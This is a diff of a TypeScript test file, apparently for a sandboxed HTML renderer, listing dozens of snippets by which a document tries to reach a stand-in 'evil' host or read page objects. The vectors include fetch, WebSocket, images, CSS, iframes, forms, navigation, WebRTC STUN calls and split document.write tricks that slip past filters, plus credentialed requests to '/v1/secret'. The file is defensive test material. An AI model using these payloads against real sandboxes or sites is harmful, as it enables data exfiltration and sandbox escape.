@@ -1,10 +1,10 @@
 /**
- * ways-out.ts: the ways in which a document tries to contact a host, and the objects that it tries to read.
+ * escape-attempts.ts: documents that try to contact a host or to read objects of the page.
  *
- * Each way is a whole document with hosts of its own (`To`), so that a request identifies its way.
+ * Each attempt is a whole document with its own hosts (`To`), so that a request identifies its attempt.
  */
 
-/** The hosts of one way. */
+/** The hosts of one attempt. */
 export interface To {
   /** A URL without a slash at its end. */
   readonly evil: string
@@ -12,7 +12,7 @@ export interface To {
   readonly udp: string
 }
 
-export interface Way {
+export interface Attempt {
   readonly name: string
   readonly html: (to: To) => string
   /** `never`: this browser does not support it. `packets`: it needs a network. */
@@ -21,15 +21,19 @@ export interface Way {
 
 type Code = (to: To) => string
 
-const way = (name: string, html: Code, isReached: Way["isReached"] = "always"): Way => ({ name, html, isReached })
-const run = (name: string, code: Code, isReached?: Way["isReached"]): Way =>
-  way(name, (to) => `<script>${code(to)}</script>`, isReached)
-const calls = (name: string, code: Code): Way => run(`WebRTC ${name}`, code, "packets")
+const attempt = (name: string, html: Code, isReached: Attempt["isReached"] = "always"): Attempt => ({
+  name,
+  html,
+  isReached,
+})
+const run = (name: string, code: Code, isReached?: Attempt["isReached"]): Attempt =>
+  attempt(name, (to) => `<script>${code(to)}</script>`, isReached)
+const calls = (name: string, code: Code): Attempt => run(`WebRTC ${name}`, code, "packets")
 
 const rtc: Code = ({ udp }) =>
   `const c=new RTCPeerConnection({iceServers:[{urls:'stun:${udp}'}]});c.createDataChannel('x');c.createOffer().then((o)=>c.setLocalDescription(o))`
 
-const REQUESTS: readonly Way[] = [
+const REQUESTS: readonly Attempt[] = [
   run("fetch", ({ evil }) => `fetch('${evil}/fetch',{mode:'no-cors'})`),
   run("XMLHttpRequest", ({ evil }) => `const x=new XMLHttpRequest();x.open('GET','${evil}/xhr');x.send()`),
   run("WebSocket", ({ evil }) => `new WebSocket('${evil.replace("http", "ws")}/ws')`),
@@ -38,37 +42,40 @@ const REQUESTS: readonly Way[] = [
   run("keepalive", ({ evil }) => `fetch('${evil}/keep',{keepalive:true,mode:'no-cors'})`),
   run("fetchLater", ({ evil }) => `fetchLater('${evil}/later',{activateAfter:0})`),
   run("WebTransport", ({ evil }) => `new WebTransport('${evil.replace("http", "https")}/wt')`, "never"),
-  way("image", ({ evil }) => `<img src="${evil}/img">`),
-  way("responsive image", ({ evil }) => `<img srcset="${evil}/srcset 1x">`),
-  way("picture of a film", ({ evil }) => `<video poster="${evil}/poster"></video>`),
-  way("sound", ({ evil }) => `<audio src="${evil}/audio" autoplay></audio>`),
-  way("style", ({ evil }) => `<p style="background:url(${evil}/css)">x</p>`),
-  way("style sheet", ({ evil }) => `<style>@import "${evil}/import";</style>`),
-  way("font", ({ evil }) => `<style>@font-face{font-family:f;src:url(${evil}/font)}p{font-family:f}</style><p>x</p>`),
-  way("linked style", ({ evil }) => `<link rel="stylesheet" href="${evil}/link">`),
-  way("prefetch", ({ evil }) => `<link rel="prefetch" href="${evil}/prefetch">`),
-  way("preconnect", ({ evil }) => `<link rel="preconnect" href="${evil}">`, "never"),
+  attempt("image", ({ evil }) => `<img src="${evil}/img">`),
+  attempt("responsive image", ({ evil }) => `<img srcset="${evil}/srcset 1x">`),
+  attempt("picture of a film", ({ evil }) => `<video poster="${evil}/poster"></video>`),
+  attempt("sound", ({ evil }) => `<audio src="${evil}/audio" autoplay></audio>`),
+  attempt("style", ({ evil }) => `<p style="background:url(${evil}/css)">x</p>`),
+  attempt("style sheet", ({ evil }) => `<style>@import "${evil}/import";</style>`),
+  attempt(
+    "font",
+    ({ evil }) => `<style>@font-face{font-family:f;src:url(${evil}/font)}p{font-family:f}</style><p>x</p>`,
+  ),
+  attempt("linked style", ({ evil }) => `<link rel="stylesheet" href="${evil}/link">`),
+  attempt("prefetch", ({ evil }) => `<link rel="prefetch" href="${evil}/prefetch">`),
+  attempt("preconnect", ({ evil }) => `<link rel="preconnect" href="${evil}">`, "never"),
   run(
     "links that a script makes",
     ({ evil }) =>
       `for(const r of ['preconnect','dns-prefetch','prefetch','preload','stylesheet','icon']){const l=document.createElement('link');l.rel=r;l.href='${evil}/'+r;l.as='fetch';document.documentElement.append(l)}`,
   ),
-  way("script", ({ evil }) => `<script src="${evil}/script"></script>`),
-  way("module", ({ evil }) => `<script type="module">import("${evil}/module")</script>`),
-  way(
+  attempt("script", ({ evil }) => `<script src="${evil}/script"></script>`),
+  attempt("module", ({ evil }) => `<script type="module">import("${evil}/module")</script>`),
+  attempt(
     "speculation",
     ({ evil }) =>
       `<script type="speculationrules">{"prefetch":[{"source":"list","eagerness":"immediate","urls":["${evil}/spec"]}]}</script>`,
     "never",
   ),
-  way("object", ({ evil }) => `<object data="${evil}/object"></object>`),
-  way("embed", ({ evil }) => `<embed src="${evil}/embed">`),
-  way(
+  attempt("object", ({ evil }) => `<object data="${evil}/object"></object>`),
+  attempt("embed", ({ evil }) => `<embed src="${evil}/embed">`),
+  attempt(
     "drawing",
     ({ evil }) =>
       `<svg><image href="${evil}/svg" /><script href="${evil}/svgs"></script><filter id="f"><feImage href="${evil}/fe"/></filter></svg>`,
   ),
-  way(
+  attempt(
     "old and odd attributes",
     ({ evil }) =>
       `<input type="image" src="${evil}/ii"><table background="${evil}/tb"></table><p style="cursor:url(${evil}/c),auto;mask:url(${evil}/m);list-style:url(${evil}/l);border-image:url(${evil}/b);background:image-set('${evil}/s' 1x)">x</p>`,
@@ -79,27 +86,33 @@ const REQUESTS: readonly Way[] = [
   ),
 ]
 
-const JOURNEYS: readonly Way[] = [
-  way("frame", ({ evil }) => `<iframe src="${evil}/frame"></iframe>`),
+const JOURNEYS: readonly Attempt[] = [
+  attempt("frame", ({ evil }) => `<iframe src="${evil}/frame"></iframe>`),
   run(
     "frame that a script makes",
     ({ evil }) => `const f=document.createElement('iframe');f.src='${evil}/made';document.documentElement.append(f)`,
   ),
-  way("ping", ({ evil }) => `<a id="a" ping="${evil}/ping" href="#x">x</a><script>a.click()</script>`),
-  way("form", ({ evil }) => `<form id="f" action="${evil}/form"><input name="q"></form><script>f.submit()</script>`),
+  attempt("ping", ({ evil }) => `<a id="a" ping="${evil}/ping" href="#x">x</a><script>a.click()</script>`),
+  attempt(
+    "form",
+    ({ evil }) => `<form id="f" action="${evil}/form"><input name="q"></form><script>f.submit()</script>`,
+  ),
   run("window", ({ evil }) => `open('${evil}/window')`),
   run("window by name", ({ evil }) => `open('${evil}/parent','_parent');open('${evil}/top','_top')`),
   run("the page's place", ({ evil }) => `top.location='${evil}/top'`),
-  way(
+  attempt(
     "link to the page's place",
     ({ evil }) => `<a id="a" target="_top" href="${evil}/top">x</a><script>a.click()</script>`,
   ),
   run("its own place", ({ evil }) => `location='${evil}/self'`),
   run("its own place by script", ({ evil }) => `location="javascript:'<img src=${evil}/js>'"`),
-  way("refresh", ({ evil }) => `<meta http-equiv="refresh" content="0;url=${evil}/refresh">`),
-  way("base", ({ evil }) => `<base href="${evil}/"><img src="based">`),
-  way("download", ({ evil }) => `<a id="a" download href="${evil}/download">x</a><script>a.click()</script>`),
-  way("its own place in a frame", ({ evil }) => `<iframe srcdoc="<script>location='${evil}/inner'</script>"></iframe>`),
+  attempt("refresh", ({ evil }) => `<meta http-equiv="refresh" content="0;url=${evil}/refresh">`),
+  attempt("base", ({ evil }) => `<base href="${evil}/"><img src="based">`),
+  attempt("download", ({ evil }) => `<a id="a" download href="${evil}/download">x</a><script>a.click()</script>`),
+  attempt(
+    "its own place in a frame",
+    ({ evil }) => `<iframe srcdoc="<script>location='${evil}/inner'</script>"></iframe>`,
+  ),
   run("our routes", () => `fetch('/v1/secret',{credentials:'include'})`),
   run("our routes by frame", () => `location='/v1/secret'`),
 ]
@@ -118,21 +131,21 @@ const adopt = (xml: string): string =>
 const XHTML = `xmlns:h="http://www.w3.org/1999/xhtml"`
 
 /** A nested frame has the objects that were removed from the document. */
-const CALLS: readonly Way[] = [
+const CALLS: readonly Attempt[] = [
   calls("by itself", rtc),
-  way("WebRTC in a frame", framed, "packets"),
+  attempt("WebRTC in a frame", framed, "packets"),
   calls("in a frame by markup", (to) => insert(framed(to))),
   calls("in a written frame", (to) => `document.write(${text(framed(to))})`),
   calls(
     "in a frame that is written in two pieces",
     (to) => `document.write('<ifr');document.write(${text(framed(to).slice("<ifr".length))})`,
   ),
-  way(
+  attempt(
     "WebRTC in a frame that its document ends",
     (to) => `<script>document.write('<ifr')</script>${framed(to).slice("<ifr".length)}`,
     "packets",
   ),
-  way(
+  attempt(
     "WebRTC in a frame of one letter and its document",
     (to) => `<script>document.write('<')</script>${framed(to).slice("<".length)}`,
     "packets",
@@ -212,7 +225,7 @@ const CALLS: readonly Way[] = [
   ),
 ]
 
-export const WAYS: readonly Way[] = [...REQUESTS, ...JOURNEYS, ...CALLS]
+export const ATTEMPTS: readonly Attempt[] = [...REQUESTS, ...JOURNEYS, ...CALLS]
 
 /** Each expression returns what it could read. In the frame none may return anything. */
 export const GRABS: Readonly<Record<string, string>> = {
